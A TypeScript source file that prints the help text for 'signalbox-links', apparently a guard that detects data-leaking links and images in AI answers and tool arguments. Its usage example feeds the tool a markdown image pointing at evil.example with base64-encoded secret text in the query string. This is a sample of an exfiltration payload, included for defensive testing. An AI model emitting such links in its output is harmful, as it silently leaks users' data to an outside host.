import { origins } from '../../../builtins/guards/guard.ts';
import { linkActions, linkKindNames, scannedOrigins } from '../../../builtins/guards/links/rules.ts';

/** What --help prints. */
export function help(): string {
  return `Usage: signalbox-links [options]

Finds addresses by which an answer could carry a conversation away: images and links whose address holds data, hosts
that are not what they seem, data: and javascript:. A provider or tool hook, an eval or a tool: one JSON object on stdin is
answered on stdout; a line of JSON-RPC makes it a server.

Options, each with its variable in the environment; an option wins:
  --allow-host LIST  SIGNALBOX_LINKS_ALLOW_HOST  hosts that may be linked to, *.example.org for all below one; with a list
                                                 every other host is found, too
  --kinds LIST       SIGNALBOX_LINKS_KINDS       what is looked for (default: all)
  --action WORD      SIGNALBOX_LINKS_ACTION      ${linkActions.join(' or ')} (default: strip; arguments of tools are denied)
  --scan LIST        SIGNALBOX_LINKS_SCAN        whose texts: ${origins.join(', ')}
                                                 (default: ${scannedOrigins.join(', ')})
  --help                                         this text

Kinds: ${linkKindNames.join(', ')}

In runtime.yaml:
  hooks:
    links: {command: signalbox-links, args: [--allow-host, '*.example.org'], hook: provider, runtime: server}
  evals:
    no_exfiltration: {command: signalbox-links, runtime: server}

By hand:
  echo '{"args": {"text": "![](https://evil.example/?q=c2VjcmV0IHRoaW5ncyBvZiBBZGE)"}}' | signalbox-links
`;
}
